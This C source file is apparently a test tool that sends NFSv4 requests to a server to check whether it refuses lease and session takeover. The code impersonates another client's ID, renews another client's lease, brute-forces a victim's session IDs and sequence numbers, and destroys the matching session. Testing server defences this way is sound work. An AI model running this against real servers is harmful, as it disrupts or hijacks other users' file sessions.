// SPDX-License-Identifier: GPL-2.0-only
/*
 * What another host can try against an NFSv4 client's lease and
 * sessions, over plain TCP to ADDRESS (IPv4, port 2049) with AUTH_SYS as
 * root, the credential the Linux client establishes its client ID with.
 * The guest cases check that knfsd refuses it all to a connection that
 * did not authenticate as that client.
 *
 * nfs4-clientid [-0] ADDRESS OWNER
 *	Ask for a client ID under the client owner OWNER, with a verifier
 *	of its own: EXCHANGE_ID (NFSv4.1), or SETCLIENTID (NFSv4.0) with
 *	-0, as if the client that owns OWNER had rebooted. Prints the
 *	operation's status ("NFS4_OK", "NFS4ERR_CLID_INUSE", ...).
 *
 * nfs4-clientid -r ADDRESS CLIENTID
 *	RENEW (NFSv4.0) the client ID CLIENTID (as knfsd's
 *	/proc/fs/nfsd/clients/N/info shows it, 0x...): what any NFSv4.0
 *	operation on the client's state starts with. Prints "RENEW: STATUS".
 *
 * nfs4-clientid -s ADDRESS CLIENTID [MAX]
 *	Go after the sessions of the client ID CLIENTID (as knfsd's
 *	/proc/fs/nfsd/clients/N/info shows it, 0x...; client IDs are the
 *	server's boot time and a counter: not secret). Get a client ID and a
 *	session of our own, whose ID tells the server's session counter;
 *	CREATE_SESSION for CLIENTID (seqid 1: the replay of the client's
 *	first one); then, for the MAX (4096) session IDs made of CLIENTID
 *	and the counter values before ours, BIND_CONN_TO_SESSION until one
 *	is a session (any status but NFS4ERR_BADSESSION), and on that one
 *	SEQUENCE on slot 0 for seqids 1 to 4096 until one is neither
 *	misordered nor a false retry, and DESTROY_SESSION. Prints one line
 *	per operation, "OP: STATUS" ("session: none" when none was found),
 *	and cleans up its own client ID. Session IDs are laid out as the
 *	server (knfsd, on this machine) keeps them in memory.
 *
 * Exit status 0 when the server answered, 1 when it did not answer as an
 * NFSv4 server, 2 on a usage or connection error.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#define NFS_PROGRAM		100003
#define NFS4_COMPOUND		1
#define OP_RENEW		30
#define OP_SETCLIENTID		35
#define OP_BIND_CONN_TO_SESSION	41
#define OP_EXCHANGE_ID		42
#define OP_CREATE_SESSION	43
#define OP_DESTROY_SESSION	44
#define OP_SEQUENCE		53
#define OP_DESTROY_CLIENTID	57
#define OPAQUE_LIMIT		1024
#define SESSIONID_SIZE		16

#define NFS4ERR_EXPIRED		10011
#define NFS4ERR_CLID_INUSE	10017
#define NFS4ERR_BADSESSION	10052
#define NFS4ERR_SEQ_MISORDERED	10063
#define NFS4ERR_SEQ_FALSE_RETRY	10076

struct xdr {
	uint8_t buf[4096];
	size_t len;
	uint32_t xid;			/* the call's, set by compound() */
};

/* a COMPOUND reply: its first operation's status, and where its result is */
struct reply {
	uint8_t buf[65536];
	size_t len;
	size_t off;
	int64_t status;
};

static int fd = -1;

static void put32(struct xdr *x, uint32_t v)
{
	uint32_t n = htonl(v);

	memcpy(x->buf + x->len, &n, 4);
	x->len += 4;
}

static void put_fixed(struct xdr *x, const void *p, size_t n)
{
	memcpy(x->buf + x->len, p, n);
	memset(x->buf + x->len + n, 0, (4 - n % 4) % 4);
	x->len += (n + 3) & ~(size_t)3;
}

static void put_opaque(struct xdr *x, const void *p, size_t n)
{
	put32(x, (uint32_t)n);
	put_fixed(x, p, n);
}

static int read_full(void *p, size_t n)
{
	uint8_t *b = p;

	while (n) {
		ssize_t r = read(fd, b, n);

		if (r <= 0)
			return -1;
		b += r;
		n -= (size_t)r;
	}
	return 0;
}

/* the reply's uint32 at r->off, advancing it; -1 past the end */
static int64_t get32(struct reply *r)
{
	uint32_t n;

	if (r->off + 4 > r->len)
		return -1;
	memcpy(&n, r->buf + r->off, 4);
	r->off += 4;
	return ntohl(n);
}

static int get_fixed(struct reply *r, void *p, size_t n)
{
	if (r->off + n > r->len)
		return -1;
	memcpy(p, r->buf + r->off, n);
	r->off += (n + 3) & ~(size_t)3;
	return 0;
}

static int skip_opaque(struct reply *r)
{
	int64_t n = get32(r);

	if (n < 0 || r->off + (((size_t)n + 3) & ~(size_t)3) > r->len)
		return -1;
	r->off += ((size_t)n + 3) & ~(size_t)3;
	return 0;
}

static uint32_t next_xid(void)
{
	static uint32_t xid;

	if (!xid)
		xid = (uint32_t)random();
	return ++xid;
}

/* A COMPOUND call of @minor with one operation, up to its arguments */
static void compound(struct xdr *x, uint32_t minor, uint32_t op)
{
	x->len = 4;			/* record mark, set by call() */
	x->xid = next_xid();
	put32(x, x->xid);
	put32(x, 0);			/* CALL */
	put32(x, 2);			/* RPC version */
	put32(x, NFS_PROGRAM);
	put32(x, 4);
	put32(x, NFS4_COMPOUND);
	put32(x, 1);			/* AUTH_SYS */
	put32(x, 5 * 4 + 8);		/* its body's length */
	put32(x, 0);			/* stamp */
	put_opaque(x, "intruder", 8);	/* machine name */
	put32(x, 0);			/* uid */
	put32(x, 0);			/* gid */
	put32(x, 0);			/* no other gids */
	put32(x, 0);			/* AUTH_NONE verifier */
	put32(x, 0);
	put32(x, 0);			/* no tag */
	put32(x, minor);
	put32(x, 1);			/* one operation */
	put32(x, op);
}

/*
 * Send @x and read the reply into @r: 0 with r->status the operation's
 * status and r->off at its result, or 1 (the error printed)
 */
static int call(struct xdr *x, struct reply *r)
{
	uint32_t mark = htonl(0x80000000u | (uint32_t)(x->len - 4));
	int64_t cstatus, count;

	memcpy(x->buf, &mark, 4);
	if (write(fd, x->buf, x->len) != (ssize_t)x->len) {
		perror("nfs4-clientid: write");
		return 1;
	}
	if (read_full(&mark, 4)) {
		fprintf(stderr, "nfs4-clientid: no reply\n");
		return 1;
	}
	r->len = ntohl(mark) & 0x7fffffffu;
	if (r->len > sizeof(r->buf) || read_full(r->buf, r->len)) {
		fprintf(stderr, "nfs4-clientid: a reply of %zu bytes cut short or too long\n",
			r->len);
		return 1;
	}
	r->off = 0;
	/* xid, REPLY, MSG_ACCEPTED, verifier, SUCCESS, then COMPOUND4res */
	if (get32(r) != x->xid || get32(r) != 1 || get32(r) != 0 || get32(r) < 0 ||
	    skip_opaque(r) || get32(r) != 0) {
		fprintf(stderr, "nfs4-clientid: the server did not accept the call\n");
		return 1;
	}
	/* the COMPOUND's status and tag, then the first result's op and status */
	cstatus = get32(r);
	if (cstatus < 0 || skip_opaque(r) || (count = get32(r)) < 0) {
		fprintf(stderr, "nfs4-clientid: a COMPOUND reply cut short\n");
		return 1;
	}
	if (count == 0) {		/* refused before its operation */
		r->status = cstatus;
		return 0;
	}
	if (get32(r) < 0 || (r->status = get32(r)) < 0) {
		fprintf(stderr, "nfs4-clientid: a COMPOUND result cut short\n");
		return 1;
	}
	return 0;
}

static const char *status_name(int64_t status)
{
	static const struct {
		int64_t status;
		const char *name;
	} names[] = {
		{ 0, "NFS4_OK" },
		{ NFS4ERR_EXPIRED, "NFS4ERR_EXPIRED" },
		{ NFS4ERR_CLID_INUSE, "NFS4ERR_CLID_INUSE" },
		{ 10022, "NFS4ERR_STALE_CLIENTID" },
		{ NFS4ERR_BADSESSION, "NFS4ERR_BADSESSION" },
		{ 10053, "NFS4ERR_BADSLOT" },
		{ 10055, "NFS4ERR_CONN_NOT_BOUND_TO_SESSION" },
		{ NFS4ERR_SEQ_MISORDERED, "NFS4ERR_SEQ_MISORDERED" },
		{ 10074, "NFS4ERR_CLIENTID_BUSY" },
		{ NFS4ERR_SEQ_FALSE_RETRY, "NFS4ERR_SEQ_FALSE_RETRY" },
		{ 10082, "NFS4ERR_WRONG_CRED" },
	};
	static char other[32];

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		if (names[i].status == status)
			return names[i].name;
	snprintf(other, sizeof(other), "NFS4ERR_%lld", (long long)status);
	return other;
}

static void random_bytes(uint8_t *p, size_t n)
{
	for (size_t i = 0; i < n; i++)
		p[i] = (uint8_t)random();
}

/* EXCHANGE_ID (SP4_NONE) or SETCLIENTID for @owner; its result in @r */
static int get_clientid(uint32_t minor, const char *owner, struct reply *r)
{
	struct xdr x;
	uint8_t verf[8];

	random_bytes(verf, sizeof(verf));
	compound(&x, minor, minor ? OP_EXCHANGE_ID : OP_SETCLIENTID);
	put_fixed(&x, verf, sizeof(verf));
	put_opaque(&x, owner, strlen(owner));
	if (minor) {
		put32(&x, 0);		/* eia_flags */
		put32(&x, 0);		/* SP4_NONE */
		put32(&x, 0);		/* no implementation id */
	} else {
		put32(&x, 0x40000000);	/* callback program */
		put_opaque(&x, "tcp", 3);
		put_opaque(&x, "192.0.2.99.3.255", 16);
		put32(&x, 1);		/* callback_ident */
	}
	return call(&x, r);
}

static void put_channel_attrs(struct xdr *x, uint32_t maxreq, uint32_t maxresp,
			      uint32_t cached, uint32_t maxops)
{
	put32(x, 0);			/* header pad */
	put32(x, maxreq);
	put32(x, maxresp);
	put32(x, cached);
	put32(x, maxops);
	put32(x, 1);			/* one slot */
	put32(x, 0);			/* no RDMA ird */
}

/* CREATE_SESSION for @clientid with @seqid; its result in @r */
static int create_session(const uint8_t clientid[8], uint32_t seqid,
			  struct reply *r)
{
	struct xdr x;

	compound(&x, 1, OP_CREATE_SESSION);
	put_fixed(&x, clientid, 8);
	put32(&x, seqid);
	put32(&x, 0);			/* no flags: no back channel */
	put_channel_attrs(&x, 65536, 65536, 4096, 8);
	put_channel_attrs(&x, 4096, 4096, 0, 2);
	put32(&x, 0x40000000);		/* callback program */
	put32(&x, 1);			/* one security parameter: */
	put32(&x, 0);			/* AUTH_NONE */
	return call(&x, r);
}

/* A one-operation COMPOUND on @sessionid: BIND_CONN, DESTROY_SESSION */
static int session_op(uint32_t op, const uint8_t sessionid[SESSIONID_SIZE],
		      struct reply *r)
{
	struct xdr x;

	compound(&x, 1, op);
	put_fixed(&x, sessionid, SESSIONID_SIZE);
	if (op == OP_BIND_CONN_TO_SESSION) {
		put32(&x, 1);		/* CDFC4_FORE */
		put32(&x, 0);		/* not RDMA */
	}
	return call(&x, r);
}

static int sequence(const uint8_t sessionid[SESSIONID_SIZE], uint32_t seqid,
		    struct reply *r)
{
	struct xdr x;

	compound(&x, 1, OP_SEQUENCE);
	put_fixed(&x, sessionid, SESSIONID_SIZE);
	put32(&x, seqid);
	put32(&x, 0);			/* slot */
	put32(&x, 0);			/* highest slot */
	put32(&x, 0);			/* do not cache */
	return call(&x, r);
}

/* A one-operation COMPOUND on a client ID: DESTROY_CLIENTID, RENEW (4.0) */
static int clientid_op(uint32_t minor, uint32_t op, const uint8_t clientid[8],
		       struct reply *r)
{
	struct xdr x;

	compound(&x, minor, op);
	put_fixed(&x, clientid, 8);
	return call(&x, r);
}

/* knfsd's struct nfsd4_sessionid: the client ID, a counter, 0 */
static void make_sessionid(uint8_t sessionid[SESSIONID_SIZE],
			   const uint8_t clientid[8], uint32_t counter)
{
	uint32_t zero = 0;

	memcpy(sessionid, clientid, 8);
	memcpy(sessionid + 8, &counter, 4);
	memcpy(sessionid + 12, &zero, 4);
}

static int sessions(const uint8_t victim[8], unsigned long max)
{
	static struct reply r;
	uint8_t own[8], own_session[SESSIONID_SIZE], sid[SESSIONID_SIZE];
	uint32_t seqid, counter, n;
	int64_t v;
	char owner[64];
	int found = 0;

	/* a client ID and a session of our own */
	snprintf(owner, sizeof(owner), "nfs4-clientid %ld", (long)getpid());
	if (get_clientid(1, owner, &r))
		return 1;
	if (r.status || get_fixed(&r, own, sizeof(own)) || (v = get32(&r)) < 0) {
		fprintf(stderr, "nfs4-clientid: EXCHANGE_ID for ourselves: %s\n",
			status_name(r.status));
		return 1;
	}
	seqid = (uint32_t)v;
	if (create_session(own, seqid, &r))
		return 1;
	if (r.status || get_fixed(&r, own_session, sizeof(own_session))) {
		fprintf(stderr, "nfs4-clientid: CREATE_SESSION for ourselves: %s\n",
			status_name(r.status));
		return 1;
	}
	memcpy(&counter, own_session + 8, 4);
	printf("own session: counter %u\n", counter);

	if (create_session(victim, 1, &r))
		return 1;
	printf("CREATE_SESSION: %s\n", status_name(r.status));

	for (n = 1; n <= max && n < counter; n++) {
		make_sessionid(sid, victim, counter - n);
		if (session_op(OP_BIND_CONN_TO_SESSION, sid, &r))
			return 1;
		if (r.status != NFS4ERR_BADSESSION) {
			found = 1;
			break;
		}
	}
	if (!found) {
		printf("session: none\n");
	} else {
		printf("session: counter %u\n", counter - n);
		printf("BIND_CONN_TO_SESSION: %s\n", status_name(r.status));
		for (seqid = 1; seqid <= 4096; seqid++) {
			if (sequence(sid, seqid, &r))
				return 1;
			if (r.status != NFS4ERR_SEQ_MISORDERED &&
			    r.status != NFS4ERR_SEQ_FALSE_RETRY)
				break;
		}
		printf("SEQUENCE: %s\n", status_name(r.status));
		if (session_op(OP_DESTROY_SESSION, sid, &r))
			return 1;
		printf("DESTROY_SESSION: %s\n", status_name(r.status));
	}

	/* leave no client ID of ours behind */
	if (session_op(OP_DESTROY_SESSION, own_session, &r) ||
	    clientid_op(1, OP_DESTROY_CLIENTID, own, &r))
		return 1;
	return 0;
}

int main(int argc, char **argv)
{
	static struct reply r;
	struct sockaddr_in sin = { .sin_family = AF_INET, .sin_port = htons(2049) };
	struct timeval tv = { .tv_sec = 20 };
	int mode = 1, argi = 1;
	unsigned long max = 4096;
	uint64_t clid = 0;
	uint8_t victim[8];
	char *end = NULL;

	if (argc >= 2 && !strcmp(argv[1], "-0")) {
		mode = 0;
		argi = 2;
	} else if (argc >= 2 && (!strcmp(argv[1], "-s") || !strcmp(argv[1], "-r"))) {
		mode = argv[1][1];
		argi = 2;
		if (argc == 5 && mode == 's')
			max = strtoul(argv[4], NULL, 10);
		if (argc >= 4) {
			errno = 0;
			clid = strtoull(argv[3], &end, 16);
		}
	}
	if (argc - argi != 2 + (mode == 's' && argc == 5) ||
	    inet_pton(AF_INET, argv[argi], &sin.sin_addr) != 1 ||
	    strlen(argv[argi + 1]) > OPAQUE_LIMIT ||
	    (mode > 1 && (errno || !end || *end || end == argv[3] || !max))) {
		fprintf(stderr, "usage: nfs4-clientid [-0] IPV4-ADDRESS OWNER\n"
			"       nfs4-clientid -r IPV4-ADDRESS CLIENTID\n"
			"       nfs4-clientid -s IPV4-ADDRESS CLIENTID [MAX]\n");
		return 2;
	}
	srandom((unsigned int)time(NULL) ^ (unsigned int)getpid());

	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv)) ||
	    connect(fd, (struct sockaddr *)&sin, sizeof(sin))) {
		perror("nfs4-clientid: connect");
		return 2;
	}
	/* /proc shows the client ID's bytes as the server's u64 */
	memcpy(victim, &clid, sizeof(victim));
	if (mode == 'r') {
		if (clientid_op(0, OP_RENEW, victim, &r))
			return 1;
		printf("RENEW: %s\n", status_name(r.status));
		return 0;
	}
	if (mode == 's')
		return sessions(victim, max);
	if (get_clientid((uint32_t)mode, argv[argi + 1], &r))
		return 1;
	printf("%s\n", status_name(r.status));
	close(fd);
	return 0;
}
